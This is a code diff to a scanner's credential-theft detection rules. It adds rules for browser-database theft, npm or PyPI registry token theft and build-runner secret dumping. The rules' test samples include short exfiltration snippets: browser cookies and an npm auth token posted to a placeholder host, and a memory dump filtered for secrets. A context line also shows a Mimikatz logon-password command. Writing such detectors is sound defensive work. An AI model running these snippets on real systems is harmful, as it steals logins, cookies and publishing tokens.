@@ -85,6 +85,9 @@ const posts = is(
     'net.dial',
     'session.post',
     'sendbeacon',
+    'http.client',
+    'httpsconnection',
+    'request.post',
     'smtplib',
     'webhook.site',
     'new request',
@@ -166,6 +169,28 @@ export const credentialTheft: RuleSet = {
         ),
       ],
       misses: [js("const profile = path.join(home, 'Google/Chrome/User Data')\nlaunch({ userDataDir: profile })")],
+    },
+    {
+      id: id('browser-database'),
+      severity: 'high',
+      why: "Reads logins, cookies or cards out of a browser's database and sends them away.",
+      when: near(
+        60,
+        is(
+          ['encrypted_value', 'password_value', 'moz_cookies', 'card_number_encrypted', 'encryptedpassword'],
+          /encrypted_value|password_value|moz_cookies|card_number_encrypted|encryptedPassword/,
+          { families: ['py', 'js', 'go', 'cs', 'rust', 'ps', 'c', 'java'] },
+        ),
+        browserFolder,
+        posts,
+        'read',
+      ),
+      matches: [
+        py(
+          "db = sqlite3.connect(os.path.join(base, 'Google/Chrome/Default/Cookies'))\nrows = db.execute('SELECT host_key, encrypted_value FROM cookies')\nrequests.post('https://x.example.invalid', json=list(rows))",
+        ),
+      ],
+      misses: [py("rows = db.execute('SELECT host_key, encrypted_value FROM cookies')\nprint(len(rows))")],
     },
     {
       id: id('browser-cookie-library'),
@@ -424,6 +449,45 @@ export const credentialTheft: RuleSet = {
         ps('Invoke-Mimikatz -Command "sekurlsa::logonpasswords"'),
       ],
       misses: [bat('reg save HKCU\\Software\\App app.hiv'), py("RULES = [re.compile('sekurlsa::logonpasswords')]")],
+    },
+    {
+      id: id('registry-token'),
+      severity: 'high',
+      why: "Reads a package registry's token and sends it to another host.",
+      when: near(
+        5,
+        is(
+          ['_authtoken', 'npm token', '.pypirc', 'npm_token'],
+          /(?<=config get [^\n"'`]{0,50})_authToken|_authToken=?\(|npm token (?:create|list)|(?<=(?:open|readFileSync|read_text)\([^)\n]{0,40})\.pypirc/,
+        ),
+        is(['fetch(', 'https.request', 'axios.post', 'requests.post', 'http.request', 'curl ', 'urlopen('], null),
+        is(['http://', 'https://', 'hostname'], /https?:\/\/(?!registry\.npmjs|upload\.pypi|localhost)|hostname/),
+      ),
+      matches: [
+        js(
+          "const t = execSync('npm config get //registry.npmjs.org/:_authToken').toString()\nfetch('https://x.example.invalid', { method: 'POST', body: t })",
+        ),
+      ],
+      misses: [sh('npm config set //registry.npmjs.org/:_authToken "$NPM_TOKEN"\nnpm publish')],
+    },
+    {
+      id: id('runner-secrets'),
+      severity: 'critical',
+      why: "Filters the secrets out of a build runner's memory.",
+      when: inside(
+        ['sh', 'yaml', 'py', 'js', 'make', 'docker', 'go'],
+        near(
+          4,
+          is(['issecret'], /isSecret\\?"?\s?:\s?\\?true/, { quoted: true }),
+          is(['grep', 're.', 'base64', 'memdump', '/mem'], null),
+        ),
+      ),
+      matches: [
+        sh(
+          String.raw`sudo python3 memdump.py | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | base64 -w 0`,
+        ),
+      ],
+      misses: [js('const secret = { name, isSecret: true }')],
     },
     {
       id: id('shadow-send'),
